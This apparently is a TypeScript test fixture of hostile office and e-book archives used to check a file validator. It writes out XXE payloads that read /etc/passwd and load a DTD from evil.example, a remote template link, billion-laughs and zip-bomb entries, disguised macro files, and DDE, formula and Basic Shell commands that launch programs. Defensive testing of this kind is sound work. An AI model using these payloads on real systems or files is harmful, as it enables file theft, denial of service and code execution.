// Documents that are archives: what harms whoever opens them, or whoever looks into them to learn what they are.
import { deflateRawSync } from "node:zlib";
import { bomb } from "./archives.ts";
import { harmless, hostile, type HostileFile, noise, served } from "./bytes.ts";
import { contentTypes, OFFICE, office, openDocument, zip } from "./zip.ts";

const asDocx = ["a.docx", OFFICE.docx] as const;
const asXlsx = ["a.xlsx", OFFICE.xlsx] as const;
const asOdt = ["a.odt", OFFICE.odt] as const;
const archive = harmless("application/zip");
const docx = harmless("application/zip", OFFICE.docx);
const MEBI = 1024 * 1024;

const outside = `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY % f SYSTEM "https://evil.example/x.dtd"> %f;]>`;
const laughs = `<!DOCTYPE l [<!ENTITY a "ha">${[..."bcdefghi"].map((name, n) => `<!ENTITY ${name} "${`&${"abcdefgh"[n]};`.repeat(10)}">`).join("")}]>`;
const macros = `application/vnd.ms-word.document.macroEnabled.main+xml`;

export const documents: readonly HostileFile[] = [
  hostile(
    "an entity of this machine in a document",
    asDocx,
    () => office("docx", `${outside}<w:document>&e;</w:document>`),
    docx,
  ),
  hostile(
    "an entity of this machine in the list of types",
    asDocx,
    () =>
      zip([
        { name: "[Content_Types].xml", data: `${outside}${contentTypes("docx")}&e;` },
        { name: "word/document.xml", data: "<x/>" },
      ]),
    docx,
  ),
  hostile(
    "a billion laughs in a document",
    asDocx,
    () => office("docx", `${laughs}<w:document>&i;</w:document>`),
    docx,
  ),
  hostile(
    "a billion laughs in the list of types",
    asDocx,
    () => zip([{ name: "[Content_Types].xml", data: `${laughs}<Types>&i;</Types>` }]),
    docx,
  ),
  hostile(
    "a list of types that inflates to 1 GB",
    asDocx,
    () =>
      zip([
        { name: "[Content_Types].xml", deflated: bomb(1_000 * MEBI) },
        { name: "word/document.xml", data: "<x/>" },
      ]),
    docx,
  ),
  hostile(
    "a type that inflates to 1 GB",
    asOdt,
    () =>
      zip([
        { name: "mimetype", deflated: bomb(1_000 * MEBI) },
        { name: "content.xml", data: "<x/>" },
      ]),
    harmless("application/zip", OFFICE.odt),
  ),
  hostile(
    "macros",
    ["a.docm", "application/vnd.ms-word.document.macroEnabled.12"],
    () => office("docx", "<w:document/>", [{ name: "word/vbaProject.bin", data: noise(300) }], macros),
    docx,
  ),
  hostile(
    "macros under the name of a document without",
    asDocx,
    () => office("docx", "<w:document/>", [{ name: "word/vbaProject.bin", data: noise(300) }], macros),
    docx,
  ),
  hostile(
    "a macro in a table",
    ["a.xlsm", "application/vnd.ms-excel.sheet.macroEnabled.12"],
    () =>
      office(
        "xlsx",
        "<workbook/>",
        [{ name: "xl/vbaProject.bin", data: noise(300) }],
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
      ),
    harmless("application/zip", OFFICE.xlsx),
  ),
  hostile(
    "a template far away",
    asDocx,
    () =>
      office("docx", "<w:document/>", [
        {
          name: "word/_rels/settings.xml.rels",
          data: `<Relationships><Relationship Type="attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>`,
        },
      ]),
    docx,
  ),
  hostile(
    "a link that starts a program",
    asDocx,
    () =>
      office(
        "docx",
        `<w:document><w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:document>`,
      ),
    docx,
  ),
  hostile(
    "a formula that starts a program",
    asXlsx,
    () => office("xlsx", `<workbook><f>cmd|' /C calc'!A0</f></workbook>`),
    harmless("application/zip", OFFICE.xlsx),
  ),
  hostile(
    "an open document with a script",
    asOdt,
    () =>
      openDocument(
        "odt",
        `<office:document-content><office:scripts><script:event-listener xlink:href="vnd.sun.star.script:x?language=Basic"/></office:scripts></office:document-content>`,
        [{ name: "Basic/Standard/x.xml", data: 'Shell("calc")' }],
      ),
    harmless("application/zip", OFFICE.odt),
  ),
  hostile(
    "an open document with a page for its type",
    ["a.odt", "application/octet-stream"],
    () =>
      zip([
        { name: "mimetype", data: "text/html", store: true },
        { name: "index.html", data: "<script>window.__pwned=1</script>" },
      ]),
    archive,
  ),
  hostile(
    "an open document whose type is an SVG",
    ["a.odg", "image/svg+xml"],
    () => zip([{ name: "mimetype", data: "image/svg+xml", store: true }]),
    archive,
  ),
  hostile(
    "a book with a script",
    ["a.epub", "application/epub+zip"],
    () =>
      zip([
        { name: "mimetype", data: "application/epub+zip", store: true },
        { name: "a.xhtml", data: "<html><script>1</script></html>" },
      ]),
    archive,
  ),
  hostile(
    "a document that is only a list of types",
    asDocx,
    () => zip([{ name: "[Content_Types].xml", data: contentTypes("docx") }]),
    docx,
  ),
  hostile(
    "a document that tells of a page as its type",
    asDocx,
    () =>
      zip([
        { name: "[Content_Types].xml", data: contentTypes("docx", "text/html") },
        { name: "word/document.xml", data: "<x/>" },
      ]),
    docx,
  ),
  hostile(
    "a table and a talk at once",
    asXlsx,
    () =>
      zip([
        { name: "[Content_Types].xml", data: contentTypes("xlsx") },
        { name: "xl/workbook.xml", data: "<x/>" },
        { name: "ppt/presentation.xml", data: "<x/>" },
      ]),
    harmless("application/zip", OFFICE.xlsx, OFFICE.pptx),
  ),
  hostile(
    "bytes that inflate to nothing that was told",
    asDocx,
    () => zip([{ name: "[Content_Types].xml", deflated: { bytes: deflateRawSync(noise(40)), size: 4_000_000_000 } }]),
    docx,
  ),
  hostile("a whole document", asDocx, () => office("docx", "<w:document/>"), served(OFFICE.docx)),
  hostile("a whole open document", asOdt, () => openDocument("odt", "<x/>"), served(OFFICE.odt)),
];
